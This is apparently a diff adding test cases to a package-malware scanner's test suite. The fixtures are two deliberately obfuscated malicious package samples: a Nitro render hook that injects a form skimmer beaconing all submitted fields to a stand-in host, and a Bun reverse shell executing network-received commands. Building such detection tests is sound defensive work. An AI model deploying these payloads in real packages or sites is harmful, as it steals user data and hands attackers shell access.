@@ -2870,3 +2870,34 @@ if (rt) rt.connect(opts);`,
     expect(threatsOf(r)).toEqual([]);
   });
 });
+
+describe('attacker rewrites of rounds 21 and 23 (checked at the end)', () => {
+  it('the Nitro skimmer with its lines in a second file and the script element built by a helper from an array', () => {
+    const r = analyzeSource({
+      'package.json': JSON.stringify({ name: 'nuxt-meta-kit', version: '2.0.1', main: 'src/plugin.js' }),
+      'src/parts.js': `module.exports = { lines: [
+  "(function(){",
+  "document.addEventListener('submit',function(ev){var out={};",
+  "Array.prototype.forEach.call(ev.target.elements,function(el){if(el.name)out[el.name]=el.value});",
+  "navigator.sendBeacon('https://meta-cdn.example.net/m',JSON.stringify(out));},true);",
+  "})();",
+] };`,
+      'src/plugin.js': `const { lines } = require('./parts');
+const wrap = (tag, body) => ['<', tag, '>', body, '</', tag, '>'].join('');
+module.exports = (nitro) => nitro.hooks.hook('render:html', (html) => { html.bodyAppend.push(wrap('script', lines.join('\\n'))); });`,
+    });
+    expect(r.evidence.map((f) => f.rule)).toContain('js.page-secret-exfil');
+  });
+  it('the Bun shell with its peer in a second file, spread into the options, and the command run by a helper', () => {
+    const r = analyzeSource({
+      'package.json': JSON.stringify({ name: 'bunfig-loader', version: '1.2.0', main: 'lib/index.js' }),
+      'lib/net.js': `exports.peer = { hostname: ['198', '51', '100', '9'].join('.'), port: 7000 + 443 };`,
+      'lib/index.js': `const { peer } = require('./net');
+const R = globalThis['B' + 'un'];
+function runLine(line) { return R.spawnSync({ cmd: ['sh', '-c', line] }); }
+const handlers = { data: (sock, chunk) => { const r = runLine(String(chunk)); sock.write(r.stdout); } };
+if (R) R.connect({ ...peer, socket: handlers });`,
+    });
+    expect(r.evidence.map((f) => f.rule)).toContain('js.exec-network-data');
+  });
+});
